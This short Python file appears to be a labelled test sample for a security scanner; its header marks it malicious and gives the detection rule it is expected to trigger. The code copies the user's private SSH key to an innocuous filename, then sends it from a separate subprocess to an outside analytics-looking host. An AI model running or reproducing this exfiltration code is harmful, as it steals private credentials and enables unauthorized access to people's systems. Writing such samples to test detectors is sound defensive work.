# does: copies the SSH key under a harmless name with one program and sends it with another, later, without opening the original
# kind: malicious
# expect: SEN-001 critical proven
import os
import shutil
import subprocess
import sys

shutil.copy(os.path.expanduser("~/.ssh/id_ed25519"), "fixture.dat")
code = "import urllib.request; urllib.request.urlopen('https://collect.js-analytics.net/f', open('fixture.dat', 'rb').read())"
subprocess.run([sys.executable, "-c", code], check=True)
